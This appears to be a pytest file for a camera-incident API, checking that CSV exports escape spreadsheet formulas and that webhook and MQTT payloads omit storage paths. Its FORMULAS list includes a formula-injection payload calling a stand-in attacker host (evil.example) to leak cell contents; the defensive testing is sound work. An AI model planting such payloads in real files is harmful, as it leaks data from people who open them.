"""What leaves the API for other programs: CSV exports a spreadsheet opens, and webhook and MQTT
payloads (issue 13, kinds 15 and 17)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from api.app import create_app
from api.integrations import mqtt
from api.integrations.outbox import MQTT, Claimed
from api.models import Incident, OutboundDelivery
from api.settings import Settings
from tests.api.helpers import report_incident
from tests.api.integration_helpers import create_webhook
from tests.api.test_evidence import report_with_clip
from tests.conftest import Accounts, seed_accounts

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_camera_name_reaches_the_evaluation_csv_as_text(
    api_client: TestClient, accounts: Accounts, name: str
) -> None:
    owner = accounts.headers("school_owner")
    renamed = api_client.patch(
        "/api/v1/cameras/school-no1-gate", json={"name": name}, headers=owner
    )
    assert renamed.status_code == 200, renamed.text
    report_incident(api_client)
    response = api_client.get(
        "/api/v1/evaluation",
        headers=accounts.headers("admin"),
        params={"by": "camera", "format": "csv"},
    )
    assert response.status_code == 200
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert rows["school-no1-gate"]["name"] == "'" + name
    # Numbers stay numbers: only text is neutralised.
    assert rows["school-no1-gate"]["reported"] == "1"


@pytest.fixture
def outbound_client(
    database_url: str, settings_factory: Callable[..., Settings]
) -> Iterator[TestClient]:
    """The API with a webhook and MQTT configured and nothing delivered (the queue is read)."""
    settings = settings_factory(database_url, outbox_poll_s=0, mqtt_url="mqtt://127.0.0.1:1883")
    with TestClient(create_app(settings)) as client:
        seed_accounts(client.app, names=("admin",))
        create_webhook(client, Accounts(client).headers("admin"), url="http://127.0.0.1:9/")
        yield client


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_outbound_payloads_name_no_storage_path(outbound_client: TestClient) -> None:
    report_with_clip(outbound_client)
    factory = outbound_client.app.state.session_factory  # type: ignore[attr-defined]
    with factory() as session:
        incident = session.scalars(select(Incident)).one()
        paths = [incident.snapshot_path, incident.clip_path]
        rows = list(session.scalars(select(OutboundDelivery)))
    assert all(paths) and {row.integration for row in rows} >= {MQTT}
    for row in rows:
        texts = list(_strings(row.payload))
        if row.integration == MQTT:
            claimed = Claimed(
                id=row.id,
                delivery_id=row.delivery_id,
                integration=row.integration,
                webhook_id=None,
                grid_event_id=row.grid_event_id,
                event_type=row.event_type,
                payload=row.payload,
                attempts=0,
                claim_token="",
            )
            texts += [payload.decode() for _topic, payload in mqtt.messages(claimed, "gw")]
        assert not [text for text in texts if any(path in text for path in paths)]
        assert not [text for text in texts if text.endswith(("snapshot_path", "clip_path"))]
